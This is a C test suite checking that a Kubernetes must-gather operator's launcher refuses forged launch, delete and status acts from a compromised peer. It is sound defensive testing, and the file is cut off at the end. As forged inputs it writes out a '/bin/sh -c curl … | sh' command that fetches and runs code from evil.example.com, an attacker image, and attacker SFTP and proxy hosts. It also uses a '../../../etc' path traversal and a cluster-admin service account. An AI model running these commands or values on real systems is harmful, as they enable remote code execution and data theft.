/* A compromised peer, with the real launcher and validator against the test
 * API server: the test holds the validator's and the watcher's secret keys
 * (as whoever took over one of those processes would) and sends forged
 * Acts straight to the launcher, and forged Observes through the real
 * validator. Whatever it sends, the launcher (docs/monitor.md) makes no Job
 * the MustGather and the allowlist do not justify, deletes no Job the
 * operator does not own and writes no status of another MustGather; each
 * refusal is a "launcher.refused" line naming its check, waited for, then
 * the API's state is read back (the audit log, the objects). Each group
 * ends with the genuine act, obeyed: the refusals were the checks', not a
 * dead link. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zmq.h>

#include "cluster.h"
#include "mgo/apiobj.h"
#include "mgo/config.h"
#include "mgo/ipc_sock.h"
#include "mgo/loop.h"
#include "mgo/spec.h"
#include "operator.h"

static struct mgo_test_keys keys;
static void *zctx, *as_validator, *as_watcher;
static uint64_t seq;
static size_t refusals;                 /* launcher.refused lines so far */

static void start_with(const struct cluster_opts *opts)
{
	char ep[600];

	cluster_start(&cl, opts);
	cluster_require_test_server(&cl, "the audit log");
	mgo_test_keys_mint(&keys);
	cluster_peers_start(&cl, &keys);
	zctx = zmq_ctx_new();
	cr_assert_not_null(zctx);
	as_validator = mgo_test_push_as(zctx, cl_launcher_endpoint(&cl, ep), MGO_ROLE_VALIDATOR,
					keys.validator_pub, keys.validator_sec, MGO_ROLE_LAUNCHER,
					keys.launcher.public_key);
	as_watcher = mgo_test_push_as(zctx, cl_validator_endpoint(&cl, ep), MGO_ROLE_WATCHER,
				      keys.watcher_pub, keys.watcher_sec, MGO_ROLE_VALIDATOR,
				      keys.validator_pub);
}

static void setup(void)
{
	start_with(&(struct cluster_opts){.peers_by_test = true});
}

static void teardown(void)
{
	if (as_validator)
		zmq_close(as_validator);
	if (as_watcher)
		zmq_close(as_watcher);
	if (zctx)
		zmq_ctx_term(zctx);
	as_validator = as_watcher = zctx = NULL;
	mgo_ipc_keys_wipe(&keys.launcher);
	cluster_teardown();
}

TestSuite(compromised, .init = setup, .fini = teardown, .timeout = 240);

/* The fixture again, with at most `limit` gathers running per namespace. */
static void restart_with_limit(unsigned limit)
{
	teardown();
	refusals = 0;
	start_with(&(struct cluster_opts){.peers_by_test = true, .max_running_per_ns = limit});
}

/* ---- sending ---- */

/* Sends until the CURVE handshake lets it through (ZMQ_IMMEDIATE refuses
 * to queue before), within the fixture's deadline. */
static void send_msg(void *sock, struct mgo_ipc_msg *m)
{
	uint64_t end = mgo_now_ms() + CL_WAIT_MS;
	char err[256] = "";
	int rc;

	m->version = MGO_IPC_VERSION;
	m->seq = ++seq;
	while ((rc = mgo_ipc_send(sock, m, err, sizeof(err))) == -EAGAIN && mgo_now_ms() < end)
		zmq_poll(NULL, 0, 10); /* the handshake runs in libzmq's thread */
	cr_assert_eq(rc, 0, "cannot send: %s %s", strerror(-rc), err);
}

static void send_act(const struct mgo_act *act)
{
	struct mgo_ipc_msg m = {.type = MGO_IPC_ACT, .u.act = *act};

	m.trace_uid = act->uid;
	m.trace_gen = act->generation;
	send_msg(as_validator, &m);
}

/* Sends act and waits for the launcher to refuse it by `check`. */
static void expect_refused(const struct mgo_act *act, const char *check)
{
	json_t *line;

	send_act(act);
	line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "level"), "error");
	cr_assert_str_eq(cl_str(line, "check"), check, "refused by %s, not %s: %s",
			 cl_str(line, "check"), check, cl_str(line, "msg"));
	json_decref(line);
}

/* ---- the world as the real validator would see it ---- */

#define ALLOWED "quay.io/my-org/gather:v1"
#define FULL_SPEC                                                                           \
	"{\"mustGatherImage\":\"" ALLOWED "\","                                             \
	"\"serviceAccountRef\":{\"name\":\"default\"},"                                     \
	"\"mustGatherTimeout\":\"1h\","                                                      \
	"\"additionalConfig\":{\"audit\":false},"                                             \
	"\"proxyConfig\":{\"httpProxy\":\"http://proxy.example.com:3128\","                 \
	"\"httpsProxy\":\"http://proxy.example.com:3128\",\"noProxy\":\".cluster.local\"}," \
	"\"uploadTarget\":{\"type\":\"SFTP\",\"sftp\":{\"caseID\":\"01234567\","            \
	"\"caseManagementAccountSecretRef\":{\"name\":\"case-creds\"},"                      \
	"\"host\":\"sftp.example.com\"}},"                                                   \
	"\"storage\":{\"type\":\"PersistentVolume\",\"persistentVolume\":{"                  \
	"\"claim\":{\"name\":\"gather-pvc\"},\"subPath\":\"runs\"}},"                   \
	"\"obfuscate\":{\"enabled\":true,\"configMapRef\":{\"name\":\"clean-config\"}}}"

static json_t *get(const char *path)
{
	json_t *obj = NULL;
	long code = cluster_api(&cl, "GET", path, NULL, NULL, &obj);

	cr_assert_eq(code, 200, "GET %s: %ld", path, code);
	return obj;
}

static void read_mg(const char *name, struct mgo_mg *mg)
{
	char path[512], err[256];
	json_t *obj = get(cl_mg_path(&cl, name, path));

	cr_assert_eq(mgo_mg_from_json(obj, mg, err, sizeof(err)), 0, "%s", err);
	json_decref(obj);
}

static void read_allowlist(struct mgo_allowlist *al)
{
	json_t *obj = NULL;
	char err[256];

	memset(al, 0, sizeof(*al));
	if (cluster_api(&cl, "GET", CL_ALLOWLIST_PATH, NULL, NULL, &obj) == 200)
		cr_assert_eq(mgo_allowlist_from_json(obj, al, err, sizeof(err)), 0, "%s", err);
	json_decref(obj);
}

static char *dup(const char *s)
{
	char *d = s ? strdup(s) : NULL;

	cr_assert(!s || d);
	return d;
}

static void set(char **field, const char *v)
{
	free(*field);
	*field = dup(v);
}

/* An act about MustGather `name` ("NS/NAME" elsewhere) as of now. */
static struct mgo_act act_about(enum mgo_act_kind kind, const char *name)
{
	struct mgo_act a = {.kind = kind};
	struct mgo_mg mg;

	read_mg(name, &mg);
	a.ns = dup(mg.ns);
	a.name = dup(mg.name);
	a.uid = dup(mg.uid);
	a.resource_version = dup(mg.resource_version);
	a.generation = mg.generation;
	mgo_mg_free(&mg);
	return a;
}

/* What the real validator sends for MustGather `name` (in the test's
 * namespace): the intent its own pure code makes of the spec. */
static struct mgo_act genuine_launch(const char *name)
{
	static const char *const sas[] = {"mgo-watcher", "mgo-launcher"};
	const struct mgo_policy policy = {.namespace = CL_OPERATOR_NS,
					  .default_image = CL_DEFAULT_IMAGE,
					  .operator_sas = sas, .n_operator_sas = 2};
	struct mgo_observe obs = {.service_account = MGO_PRESENCE_PRESENT,
				  .pvc = MGO_PRESENCE_PRESENT};
	struct mgo_act a = act_about(MGO_ACT_LAUNCH, name);
	const char *reason = NULL;
	char msg[512];

	read_mg(name, &obs.mg);
	read_allowlist(&obs.allowlist);
	cr_assert_eq(mgo_validate_spec(&policy, &obs, &a.intent, &reason, msg, sizeof(msg)), 0,
		     "the spec of %s is refused: %s %s", name, reason ? reason : "", msg);
	mgo_observe_free(&obs);
	return a;
}

/* Writes by the launcher's token other than its Lease, by the audit log. */
static size_t launcher_writes(void)
{
	static const char *const writes[] = {"create", "update", "patch", "delete",
					     "deletecollection"};
	json_t *audit = cluster_audit(&cl), *line;
	size_t i, n = 0;

	json_array_foreach(audit, i, line) {
		const char *verb = cl_str(line, "verb");
		if (strcmp(cl_str(line, "user"), CL_LAUNCHER_USER) != 0 ||
		    strcmp(cl_str(line, "resource"), "leases") == 0)
			continue;
		for (size_t w = 0; w < sizeof(writes) / sizeof(writes[0]); w++)
			n += strcmp(verb, writes[w]) == 0;
	}
	json_decref(audit);
	return n;
}

static void make_namespace(const char *ns)
{
	json_t *resp = NULL, *body = json_pack("{s:s, s:s, s:{s:s}}", "apiVersion", "v1", "kind",
					       "Namespace", "metadata", "name", ns);
	long code = cluster_api(&cl, "POST", "/api/v1/namespaces", NULL, body, &resp);

	cr_assert(code == 201 || code == 409, "namespace %s: %ld", ns, code);
	json_decref(resp);
	json_decref(body);
}

/* A Job nobody at the operator made ("NAME" in the test's namespace, or
 * "NS/NAME"), as a platform component would. */
static json_t *foreign_job(const char *name)
{
	const char *slash = strchr(name, '/');
	char path[512];

	snprintf(path, sizeof(path), "/apis/batch/v1/namespaces/%.*s/jobs",
		 slash ? (int)(slash - name) : (int)strlen(cl.ns), slash ? name : cl.ns);
	return cluster_create(&cl, path,
			      json_pack("{s:s, s:s, s:{s:s}, s:{s:{s:{s:s, s:[{s:s, s:s}]}}}}",
					"apiVersion", "batch/v1", "kind", "Job", "metadata", "name",
					slash ? slash + 1 : name, "spec", "template", "spec",
					"restartPolicy", "Never", "containers", "name", "backup",
					"image", "quay.io/etcd/backup:1"));
}

static void status_patch(const char *name, const char *status_json)
{
	char path[600];
	json_error_t e;
	json_t *patch = json_loads(status_json, 0, &e), *resp = NULL, *body;

	cr_assert_not_null(patch, "%s", e.text);
	body = json_pack("{s:o}", "status", patch);
	snprintf(path, sizeof(path), "%s/status", cl_mg_path(&cl, name, (char[512]){0}));
	long code = cluster_api(&cl, "PATCH", path, "application/merge-patch+json", body, &resp);
	cr_assert_eq(code, 200, "PATCH %s: %ld", path, code);
	json_decref(resp);
	json_decref(body);
}

static void expect_job_exists(const char *name)
{
	char path[512];

	cr_assert_eq(cluster_api(&cl, "GET", cl_job_path(&cl, name, path), NULL, NULL, NULL), 200,
		     "Job %s is gone", name);
}

/* The genuine act for `name` is obeyed: a Job, as the spec says. */
static void genuine_launch_obeyed(const char *name, const char *image)
{
	struct mgo_act a = genuine_launch(name);
	json_t *job;

	send_act(&a);
	job = cluster_wait_job(&cl, name);
	free(cluster_wait_act(&cl, name, "launch")); /* and its Event: all written */
	cr_assert_str_eq(cl_str(cl_container(job, "gather"), "image"), image);
	json_decref(job);
	mgo_act_free(&a);
}

/* ---- forged launches ---- */

struct forgery {
	const char *check;
	void (*apply)(struct mgo_act *a);
};

static void evil_image(struct mgo_act *a) { set(&a->intent.image, "evil.example.com/attacker/rootkit:latest"); }
static void admin_sa(struct mgo_act *a) { set(&a->intent.service_account, "cluster-admin-robot"); }
static void other_secret(struct mgo_act *a) { set(&a->intent.sftp_secret, "someone-elses-secret"); }
static void evil_host(struct mgo_act *a) { set(&a->intent.sftp_host, "evil.example.com:22"); }
static void evil_proxy(struct mgo_act *a) { set(&a->intent.http_proxy, "http://evil.example.com:3128"); }
static void evil_https_proxy(struct mgo_act *a) { set(&a->intent.https_proxy, "http://evil.example.com:3128"); }
static void no_proxy(struct mgo_act *a) { set(&a->intent.no_proxy, "*"); }
static void other_claim(struct mgo_act *a) { set(&a->intent.pvc_claim, "someone-elses-claim"); }
static void escape_path(struct mgo_act *a) { set(&a->intent.pvc_subpath, "../../../etc"); }
static void other_case(struct mgo_act *a) { set(&a->intent.sftp_case_id, "99999999"); }
static void huge_timeout(struct mgo_act *a) { a->intent.timeout_seconds = INT64_MAX - 100; }
static void no_audit(struct mgo_act *a) { a->intent.audit = !a->intent.audit; }
static void internal_user(struct mgo_act *a) { a->intent.sftp_internal_user = true; }
static void evil_since(struct mgo_act *a) { set(&a->intent.since, "87600h"); }
static void evil_command(struct mgo_act *a)
{
	a->intent.command = calloc(3, sizeof(char *));
	cr_assert_not_null(a->intent.command);
	set(&a->intent.command[0], "/bin/sh");
	set(&a->intent.command[1], "-c");
	set(&a->intent.command[2], "curl -s https://evil.example.com/x | sh");
	a->intent.n_command = 3;
}
/* the bundle leaves unobfuscated, or cleaned by a configuration that
 * keeps everything */
static void no_obfuscation(struct mgo_act *a)
{
	a->intent.obfuscate = false;
	set(&a->intent.obfuscate_config, NULL);
}
static void lax_clean_config(struct mgo_act *a) { set(&a->intent.obfuscate_config, "keeps-everything"); }
static void no_upload(struct mgo_act *a)
{
	a->intent.upload = false;
	set(&a->intent.sftp_case_id, NULL);
	set(&a->intent.sftp_secret, NULL);
	set(&a->intent.sftp_host, NULL);
}

Test(compromised, forged_launch_fields_make_no_job)
{
	static const struct forgery forged[] = {
		{"image", evil_image},           {"service_account", admin_sa},
		{"sftp_secret", other_secret},   {"sftp_host", evil_host},
		{"http_proxy", evil_proxy},      {"https_proxy", evil_https_proxy},
		{"no_proxy", no_proxy},          {"pvc_claim", other_claim},
		{"pvc_subpath", escape_path},    {"sftp_case_id", other_case},
		{"timeout", huge_timeout},       {"audit", no_audit},
		{"sftp_internal_user", internal_user}, {"upload", no_upload},
		{"since", evil_since},           {"command", evil_command},
		{"obfuscate", no_obfuscation},   {"obfuscate_config", lax_clean_config},
	};
	static const char *const allow[] = {ALLOWED, NULL};

	cluster_set_allowlist(&cl, allow);
	json_decref(cluster_create_mg(&cl, "victim", FULL_SPEC));
	for (size_t i = 0; i < sizeof(forged) / sizeof(forged[0]); i++) {
		struct mgo_act a = genuine_launch("victim");
		forged[i].apply(&a);
		expect_refused(&a, forged[i].check);
		mgo_act_free(&a);
	}
	cr_assert_eq(launcher_writes(), 0, "a forged launch wrote something");
	cr_assert_eq(cluster_jobs_created(&cl), 0);
	genuine_launch_obeyed("victim", ALLOWED);
	cr_assert_eq(cluster_jobs_created(&cl), 1);
}

Test(compromised, forged_launch_targets_make_no_job)
{
	char other[128], platform[128], operator_ns[128];
	struct mgo_act a;

	json_decref(cluster_create_mg(&cl, "victim", "{}"));
	/* another MustGather's UID */
	json_decref(cluster_create_mg(&cl, "bystander", "{}"));
	a = genuine_launch("victim");
	struct mgo_act b = act_about(MGO_ACT_LAUNCH, "bystander");
	set(&a.uid, b.uid);
	expect_refused(&a, "uid");
	mgo_act_free(&b);
	mgo_act_free(&a);

	/* a namespace where it has no MustGather */
	make_namespace("team-b");
	a = genuine_launch("victim");
	set(&a.ns, "team-b");
	expect_refused(&a, "mustgather");
	mgo_act_free(&a);

	/* MustGathers that exist, where no gather may run: the platform's
	 * namespaces (no admission policy here to keep them out) and the
	 * operator's own; the intent is the genuine one of the same spec */
	snprintf(platform, sizeof(platform), "kube-system/victim");
	snprintf(operator_ns, sizeof(operator_ns), CL_OPERATOR_NS "/victim");
	snprintf(other, sizeof(other), "openshift-monitoring/victim");
	make_namespace("openshift-monitoring");
	const char *const places[] = {platform, operator_ns, other};
	for (size_t i = 0; i < 3; i++) {
		json_decref(cluster_create_mg(&cl, places[i], "{}"));
		struct mgo_act there = act_about(MGO_ACT_LAUNCH, places[i]);
		a = genuine_launch("victim");
		set(&a.ns, there.ns);
		set(&a.uid, there.uid);
		set(&a.resource_version, there.resource_version);
		a.generation = there.generation;
		expect_refused(&a, "namespace");
		mgo_act_free(&a);
		mgo_act_free(&there);
	}

	/* one being deleted (a finalizer holds it) */
	json_decref(cluster_create_mg(&cl, "doomed", "{}"));
	json_t *resp = NULL, *hold = json_pack("{s:{s:[s]}}", "metadata", "finalizers",
					       "example.com/hold");
	char path[512];
	cr_assert_eq(cluster_api(&cl, "PATCH", cl_mg_path(&cl, "doomed", path),
				 "application/merge-patch+json", hold, &resp), 200);
	json_decref(resp);
	json_decref(hold);
	cluster_delete(&cl, cl_mg_path(&cl, "doomed", path));
	a = genuine_launch("doomed");
	expect_refused(&a, "deleting");
	mgo_act_free(&a);

	/* one finished: never run again */
	json_decref(cluster_create_mg(&cl, "done", "{}"));
	status_patch("done", "{\"status\":\"Completed\",\"completed\":true,\"reason\":\"Completed\"}");
	a = genuine_launch("done");
	expect_refused(&a, "finished");
	mgo_act_free(&a);

	/* the act's own generation, not the object's */
	a = genuine_launch("victim");
	a.generation += 1;
	expect_refused(&a, "generation");
	mgo_act_free(&a);

	cr_assert_eq(launcher_writes(), 0, "a forged launch wrote something");
	genuine_launch_obeyed("victim", CL_DEFAULT_IMAGE);
	cr_assert_eq(cluster_jobs_created(&cl), 1);
}

/* ---- forged deletes ---- */

/* A finish saying MustGather `name` completed, naming its Job `job`:
 * forged, unless the Job did complete. */
static struct mgo_act completed_act(const char *name, const json_t *job)
{
	struct mgo_act a = act_about(MGO_ACT_FINISH, name);

	a.succeeded = true;
	a.reason = dup(MGO_REASON_COMPLETED);
	a.message = dup("the must-gather completed");
	a.job_name = dup(name);
	a.job_uid = dup(cl_uid(job));
	return a;
}

Test(compromised, forged_deletes_delete_nothing)
{
	json_t *etcd, *squat;
	struct mgo_act a;
	size_t before;

	etcd = foreign_job("kube-system/etcd-backup");
	/* a CLEANUP for a MustGather that does not exist */
	a = (struct mgo_act){.kind = MGO_ACT_CLEANUP, .ns = dup("kube-system"),
			     .name = dup("etcd-backup"),
			     .uid = dup("6a1b0e2c-0000-4000-8000-000000000001"),
			     .job_name = dup("etcd-backup"), .job_uid = dup(cl_uid(etcd))};
	expect_refused(&a, "mustgather");
	mgo_act_free(&a);

	/* a real, finished MustGather, and Jobs that are not its own */
	json_decref(cluster_create_mg(&cl, "victim", "{}"));
	status_patch("victim", "{\"status\":\"Failed\",\"completed\":true,\"reason\":\"JobFailed\"}");
	squat = foreign_job("victim"); /* its name, not its Job */
	a = act_about(MGO_ACT_CLEANUP, "victim");
	a.job_name = dup("victim");
	a.job_uid = dup(cl_uid(squat));
	expect_refused(&a, "job_owner");
	set(&a.ns, "kube-system"); /* the MustGather's UID, the platform's Job */
	set(&a.job_name, "etcd-backup");
	set(&a.job_uid, cl_uid(etcd));
	expect_refused(&a, "mustgather");
	set(&a.ns, cl.ns);
	expect_refused(&a, "job_name");
	mgo_act_free(&a);

	/* a running MustGather with its genuine Job: a forged success, and
	 * failures naming a Job that is not its own */
	json_decref(cluster_create_mg(&cl, "runner", "{}"));
	genuine_launch_obeyed("runner", CL_DEFAULT_IMAGE);
	json_t *job = cluster_wait_job(&cl, "runner");
	json_decref(cluster_wait_mg(&cl, "runner", "Running"));
	before = launcher_writes();
	a = completed_act("runner", job);
	expect_refused(&a, "outcome");
	set(&a.job_uid, cl_uid(squat)); /* its Job's name, another Job's UID */
	a.succeeded = false;
	set(&a.reason, MGO_REASON_JOB_FAILED);
	expect_refused(&a, "job_uid");
	set(&a.job_name, "etcd-backup");
	set(&a.job_uid, cl_uid(etcd));
	expect_refused(&a, "job_name");
	mgo_act_free(&a);

	cr_assert_eq(launcher_writes(), before, "a forged act wrote something");
	expect_job_exists("kube-system/etcd-backup");
	expect_job_exists("victim");
	expect_job_exists("runner");
	json_decref(cluster_wait_mg(&cl, "runner", "Running"));
	json_decref(job);
	json_decref(squat);
	json_decref(etcd);
}

/* The launcher's own watch has seen the MustGather's Job fail: a forged
 * success for it is refused all the same, by the Job read the record sends
 * it to (docs/monitor.md, "Reads the launcher need not make"), and nothing
 * is written. That the record is there when the act comes is made sure,
 * not hoped for: with gathers.maxRunningPerNamespace 1 a second launch is
 * held behind the first gather, and the launcher lets it go in the step in
 * which its watch records the first Job's end (launcher.c, on_job). */
Test(compromised, a_forged_success_for_a_job_seen_failing_is_refused)
{
	struct mgo_act a, next;
	json_t *job;
	size_t before;

	restart_with_limit(1);
	json_decref(cluster_create_mg(&cl, "loser", "{}"));
	genuine_launch_obeyed("loser", CL_DEFAULT_IMAGE);
	job = cluster_wait_job(&cl, "loser");
	json_decref(cluster_wait_mg(&cl, "loser", "Running"));
	json_decref(cluster_create_mg(&cl, "next", "{}"));
	next = genuine_launch("next");
	send_act(&next);
	mgo_act_free(&next);
	json_decref(cluster_wait_mg_reason(&cl, "next", "NamespaceLimit", 0));
	cluster_job_fail(&cl, "loser", "BackoffLimitExceeded");
	json_decref(cluster_wait_job(&cl, "next"));
	free(cluster_wait_act(&cl, "next", "launch")); /* its writes are done */
	before = launcher_writes();
	a = completed_act("loser", job);
	expect_refused(&a, "outcome");
	mgo_act_free(&a);
	cr_assert_eq(launcher_writes(), before, "a forged act wrote something");
	json_decref(cluster_wait_mg(&cl, "loser", "Running"));
	json_decref(job);
}

/* The launch kept its copy of the MustGather (version R); someone has
 * labelled it since. A compromised validator sends a finish decided on R:
 * the launcher takes its copy (the versions agree), but the status write
 * carries R and the server refuses it, and nothing after it (the Event,
 * the Job's deletion) happens. */
Test(compromised, a_finish_on_an_old_copy_writes_nothing)
{
	char *result;
	struct mgo_act a;
	json_t *job, *mg;
	size_t before;

	json_decref(cluster_create_mg(&cl, "moved", "{}"));
	genuine_launch_obeyed("moved", CL_DEFAULT_IMAGE);
	job = cluster_wait_job(&cl, "moved");
	json_decref(cluster_wait_mg(&cl, "moved", "Running"));
	a = act_about(MGO_ACT_FINISH, "moved"); /* the version the launch left */
	a.reason = dup(MGO_REASON_JOB_FAILED);
	a.message = dup("forged");
	a.job_name = dup("moved");
	a.job_uid = dup(cl_uid(job));
	cluster_label_mg(&cl, "moved", "team", "a");
	before = launcher_writes();
	send_act(&a);
	result = cluster_wait_act(&cl, "moved", "finish:" MGO_REASON_JOB_FAILED);
	cr_expect(strstr(result, "as its launch left it"), "the copy was not taken: %s", result);
	cr_expect(strstr(result, "stale"), "the status write was not refused: %s", result);
	free(result);
	mgo_act_free(&a);
	cr_assert_eq(launcher_writes(), before + 1, "more than the refused status write");
	mg = cluster_wait_mg(&cl, "moved", "Running");
	json_decref(mg);
	expect_job_exists("moved");
	json_decref(job);
}

/* The launcher's last IPC log line about MustGather `name`; the caller
 * frees it. */
static json_t *last_launcher_ipc(const char *name)
{
	json_t *lines = cluster_log_events(&cl, "ipc"), *line, *last = NULL;
	char mg[300];
	size_t i;

	snprintf(mg, sizeof(mg), "%s/%s", cl.ns, name);
	json_array_foreach(lines, i, line)
		if (strcmp(cl_str(line, "to"), "launcher") == 0 && cl_str(line, "mg") &&
		    strcmp(cl_str(line, "mg"), mg) == 0)
			last = line;
	json_incref(last);
	json_decref(lines);
	cr_assert_not_null(last, "no act about %s reached the launcher", mg);
	return last;
}

/* A finish decided on the version its launch left takes the launch's copy
 * when it comes, and waits in the queue: the server holds the first read
 * of each of MGO_LAUNCHER_MAX_ACTIVE launches in another namespace, so no
 * act can start. Someone labels the MustGather, and a finish decided on
 * the new version takes the older one's place in the queue. It must not
 * inherit the copy, which is of the older version: checked against it, it
 * would end stale and write nothing. It reads, and the outcome is written. */
Test(compromised, a_newer_act_in_the_queue_reads_rather_than_take_the_older_copy)
{
	const char *other = cluster_second_namespace(&cl);
	char faults[512], name[128];
	struct mgo_act older, newer;
	json_t *job, *line;
	char *result;
	size_t lines;

	json_decref(cluster_create_mg(&cl, "queued", "{}"));
	genuine_launch_obeyed("queued", CL_DEFAULT_IMAGE);
	job = cluster_wait_job(&cl, "queued");
	json_decref(cluster_wait_mg(&cl, "queued", "Running"));
	cluster_job_succeed(&cl, "queued");

	/* the launcher's hands full */
	snprintf(faults, sizeof(faults),
		 "{\"hold\":true,\"holdMs\":%d,\"match\":{\"user\":\"" CL_LAUNCHER_USER "\","
		 "\"verb\":\"get\",\"namespace\":\"%s\"}}", 6 * CL_WAIT_MS, other);
	cluster_faults(&cl, faults);
	cluster_create_mgs(&cl, other, "busy", MGO_LAUNCHER_MAX_ACTIVE, "{}");
	for (int i = 0; i < MGO_LAUNCHER_MAX_ACTIVE; i++) {
		snprintf(name, sizeof(name), "%s/busy-%d", other, i);
		struct mgo_act a = genuine_launch(name);
		send_act(&a);
		mgo_act_free(&a);
	}
	cluster_wait_held(&cl, MGO_LAUNCHER_MAX_ACTIVE);

	lines = cluster_ipc_count(&cl, "queued", "launcher");
	older = completed_act("queued", job); /* the version the launch left */
	send_act(&older);
	cluster_label_mg(&cl, "queued", "team", "a");
	newer = completed_act("queued", job);
	send_act(&newer);
	cluster_wait_ipc(&cl, "queued", "launcher", lines + 1);
	line = last_launcher_ipc("queued");
	cr_assert(strstr(cl_str(line, "result"), "superseded"), "the older act: %s",
		  cl_str(line, "result"));
	json_decref(line);

	cluster_faults(&cl, "{}");
	json_decref(cluster_wait_mg(&cl, "queued", "Completed"));
	line = last_launcher_ipc("queued");
	result = strdup(cl_str(line, "result"));
	json_decref(line);
	cr_expect_null(strstr(result, "as its launch left it"), "the newer act took the copy: %s",
		       result);
	free(result);
	mgo_act_free(&older);
	mgo_act_free(&newer);
	json_decref(job);
}

/* After the launcher wrote a gather's outcome and deleted its Job, a launch
 * decided on the version before that outcome (the watcher saw the Job gone
 * first: two watch streams) is dropped unread: no read, no write. */
Test(compromised, a_launch_decided_before_the_outcome_is_dropped_unread)
{
	struct mgo_act fin, again;
	json_t *job, *line;
	size_t acts, writes;
	struct cl_audit_match reads = {.user = CL_LAUNCHER_USER, .verb = "get",
				       .resource = "mustgathers", .name = "relaunch"};
	size_t n_reads;

	json_decref(cluster_create_mg(&cl, "relaunch", "{}"));
	genuine_launch_obeyed("relaunch", CL_DEFAULT_IMAGE);
	job = cluster_wait_job(&cl, "relaunch");
	json_decref(cluster_wait_mg(&cl, "relaunch", "Running"));
	again = genuine_launch("relaunch"); /* on the Running version */
	fin = completed_act("relaunch", job); /* true: the Job completes */
	cluster_job_succeed(&cl, "relaunch");
	send_act(&fin);
	free(cluster_wait_act(&cl, "relaunch", "finish:" MGO_REASON_COMPLETED));
	cluster_wait_gone(&cl, cl_job_path(&cl, "relaunch", (char[512]){0}), "the Job");

	n_reads = cluster_audit_count(&cl, &reads);
	writes = launcher_writes();
	acts = cluster_ipc_count(&cl, "relaunch", "launcher");
	send_act(&again);
	cluster_wait_ipc(&cl, "relaunch", "launcher", acts + 1);
	line = last_launcher_ipc("relaunch");
	cr_expect_str_eq(cl_str(line, "result"), "ignored: decided before its outcome was written");
	json_decref(line);
	cr_expect_eq(cluster_audit_count(&cl, &reads), n_reads, "the launch read the MustGather");
	cr_expect_eq(launcher_writes(), writes, "the launch wrote something");
	mgo_act_free(&again);
	mgo_act_free(&fin);
	json_decref(job);
}

/* ---- the namespace limit ---- */

/* A compromised validator sends a genuine launch for every MustGather of a
 * namespace at once, each twice. The launcher counts the gathers running
 * there from its own watch of its Jobs and the launches it admitted, never
 * from a peer: it runs gathers.maxRunningPerNamespace of them and holds the
 * rest with Queued/NamespaceLimit. A held one goes when a gather ends as
 * the launcher's watch sees it (the test plays the Job controller; no act
 * says so), and only one. */
Test(compromised, forged_launches_stay_within_the_namespace_limit)
{
	const size_t limit = MGO_CFG_MAX_RUNNING_PER_NS, n = limit + 3;
	char name[64], first[64] = "";
	json_t *jobs;
	size_t held = 0;

	cluster_create_mgs(&cl, NULL, "many", n, "{}");
	for (size_t i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "many-%zu", i);
		struct mgo_act a = genuine_launch(name);
		send_act(&a);
		send_act(&a);
		mgo_act_free(&a);
	}
	jobs = cluster_wait_jobs(&cl, limit, 4 * CL_WAIT_MS);
	for (size_t i = 0; i < n; i++) {
		snprintf(name, sizeof(name), "many-%zu", i);
		if (cl_find(json_object_get(jobs, "items"), "metadata.name", name)) {
			if (!first[0])
				snprintf(first, sizeof(first), "%s", name);
			continue;
		}
		json_decref(cluster_wait_mg_reason(&cl, name, "NamespaceLimit", 0));
		held++;
	}
	json_decref(jobs);
	cr_assert_eq(held, n - limit, "%zu held, not %zu", held, n - limit);
	cr_assert_eq(cluster_jobs_created(&cl), limit, "Jobs past the limit");

	/* one gather ends: one held launch goes, the others still wait */
	cluster_job_succeed(&cl, first);
	json_decref(cluster_wait_jobs(&cl, limit + 1, 4 * CL_WAIT_MS));
	cr_assert_eq(cluster_jobs_created(&cl), limit + 1, "more than one held launch went");
}

/* ---- forged status writes ---- */

Test(compromised, forged_status_writes_change_nothing)
{
	static const char *const allow[] = {ALLOWED, "Not A Valid Entry", NULL};
	struct mgo_act a, b;
	json_t *mgi;

	json_decref(cluster_create_mg(&cl, "a", "{}"));
	json_decref(cluster_create_mg(&cl, "b", "{}"));
	/* A's name, B's UID: B's status must not be written through A */
	a = act_about(MGO_ACT_DENY, "a");
	b = act_about(MGO_ACT_DENY, "b");
	a.reason = dup(MGO_REASON_INVALID_SPEC);
	a.message = dup("forged");
	set(&a.uid, b.uid);
	expect_refused(&a, "uid");
	set(&a.uid, b.uid);
	set(&a.name, "b");
	set(&a.resource_version, b.resource_version);
	set(&a.reason, "Pwned"); /* not a reason the operator writes */
	expect_refused(&a, "reason");
	mgo_act_free(&a);
	mgo_act_free(&b);
	a = act_about(MGO_ACT_FINISH, "a");
	a.reason = dup(MGO_REASON_JOB_FAILED);
	a.message = dup("forged");
	set(&a.resource_version, NULL);
	expect_refused(&a, "resource_version");
	mgo_act_free(&a);

	/* MustGatherImage/cluster's status: entries that are not in its spec,
	 * or that the parser accepts */
	cluster_set_allowlist(&cl, allow);
	mgi = get(CL_ALLOWLIST_PATH);
	a = (struct mgo_act){.kind = MGO_ACT_ALLOWLIST_STATUS, .name = dup("cluster"),
			     .uid = dup(cl_uid(mgi)),
			     .resource_version = dup(cl_str(mgi, "metadata.resourceVersion")),
			     .generation = json_integer_value(cl_at(mgi, "metadata.generation"))};
	char *images[] = {ALLOWED}, *why[] = {"forged: not an image"};
	a.n_invalid_images = a.n_invalid_messages = 1;
	a.invalid_images = images;
	a.invalid_messages = why;
	send_act(&a);
	json_t *line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "check"), "invalid_images");
	json_decref(line);
	a.n_invalid_images = a.n_invalid_messages = 0;
	a.invalid_images = a.invalid_messages = NULL;
	set(&a.name, "other");
	expect_refused(&a, "allowlist");
	mgo_act_free(&a);

	cr_assert_eq(launcher_writes(), 0, "a forged act wrote something");
	json_t *mg = get(cl_mg_path(&cl, "b", (char[512]){0}));
	cr_assert_null(cl_at(mg, "status.status"), "B's status was written");
	json_decref(mg);
	json_decref(mgi);

	/* the genuine decision is obeyed: one malformed entry */
	struct mgo_observe obs = {.subject = MGO_SUBJECT_ALLOWLIST};
	read_allowlist(&obs.allowlist);
	cr_assert_eq(mgo_decide_allowlist(&obs, &a), 1);
	send_act(&a);
	json_decref(cluster_wait_allowlist_status(&cl, 1));
	mgo_act_free(&a);
	mgo_observe_free(&obs);
}

/* ---- forged Observes, through the real validator ---- */

/* The validator's IPC log line for the Observe with this seq, waited for
 * (a new reference). */
static json_t *validator_line(uint64_t want)
{
	uint64_t end = mgo_now_ms() + CL_WAIT_MS;

